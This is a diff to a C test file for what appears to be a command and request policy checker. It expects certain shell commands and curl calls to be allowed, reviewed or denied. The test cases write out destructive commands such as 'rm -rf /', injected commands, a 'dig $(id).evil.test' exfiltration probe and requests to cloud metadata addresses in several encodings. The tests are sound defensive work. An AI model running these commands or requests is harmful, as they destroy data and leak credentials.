@@ -287,7 +287,7 @@ static void command_texts_are_judged_command_by_command(void **state)
 		{ "", 'd', "invalid_request" }, { "   ", 'd', "invalid_request" },
 		{ "ls;rm x", 'd', "policy_block" }, { "ls\nrm x", 'd', "policy_block" }, { "ls\rrm", 'd', "incomplete_evidence" },
 		{ "ls | wc", 'a', NULL }, { "ls & wc < x", 'a', NULL }, { "ls > x", 'r', NULL }, { "ls < x", 'a', NULL }, { "ls $HOME", 'a', NULL }, { "ls `id`", 'a', NULL },
-		{ "ls \"a\"", 'a', NULL }, { "l\\s", 'a', NULL }, { "ls *", 'a', NULL }, { "ls # x", 'a', NULL }, { "(ls)", 'a', NULL }, { "A=1 ls", 'a', NULL }, { "time ls", 'a', NULL },
+		{ "ls \"a\"", 'a', NULL }, { "l\\s", 'a', NULL }, { "ls *", 'a', NULL }, { "ls # x", 'a', NULL }, { "(ls)", 'a', NULL }, { "A=1 ls", 'a', NULL }, { "time ls", 'd', "incomplete_evidence" },
 		{ "ls\xc2\xa0x", 'd', "incomplete_evidence" }, { "ls\x01", 'd', "incomplete_evidence" }, { "echo \"x", 'd', "incomplete_evidence" },
 		/* the strongest reason wins, and its tag */
 		{ "rm -rf /", 'd', "hardline" }, { "sudo rm -rf /", 'd', "hardline" }, { "timeout 5 rm -rf /etc", 'd', "hardline" }, { "ls; env rm -rf ~", 'd', "hardline" }, { "bash -c 'rm -rf \"$HOME\"'", 'd', "hardline" },
@@ -328,7 +328,7 @@ static void requests_are_held_to_the_scope(void **state)
 {
 	static const struct { const char *text; const char *expected; } cases[] = {	/* guarded, observe; without a scope, guarded */
 		{ "curl http://target.test/", "aar" }, { "curl http://evil.test/", "rdr" }, { "curl http://target.test@evil.test/", "rdr" }, { "curl http://127.0.0.1/", "aad" }, { "curl http://10.0.0.1/", "rdd" },
-		{ "curl http://0x7f.1/", "aad" }, { "curl http://169.254.169.254/", "ddd" }, { "curl http://metadata.google.internal/", "ddd" }, { "curl http://localhost:9222/", "ddd" }, { "curl -L http://target.test/", "rrr" },
+		{ "curl http://0x7f.1/", "rdd" }, { "curl http://134744072/", "rdd" }, { "curl http://0xa9fea9fe/", "ddd" }, { "curl http://169.254.169.254/", "ddd" }, { "curl http://metadata.google.internal/", "ddd" }, { "curl http://localhost:9222/", "ddd" }, { "curl -L http://target.test/", "rrr" },
 		{ "curl -d x http://target.test/", "rdr" }, { "curl http://target.test/logout", "rdr" }, { "curl 'http://target.test/?_method=PUT'", "rdr" }, { "curl 'http://target.test/?q=drop+table+x'", "ddd" },
 		{ "curl http://target.test/ http://evil.test/", "rdr" }, { "curl gopher://target.test/", "rdr" }, { "curl \"$URL\"", "rdr" }, { "dig target.test", "aar" }, { "dig $(id).evil.test", "rdr" }, { "nmap target.test", "rrr" },
 		{ "curl http://target.test./", "aar" }, { "curl http://TARGET.test/", "aar" }, { "curl http://target.test:8080/", "aar" }, { "curl http://xn--target-x.test/", "rdr" },
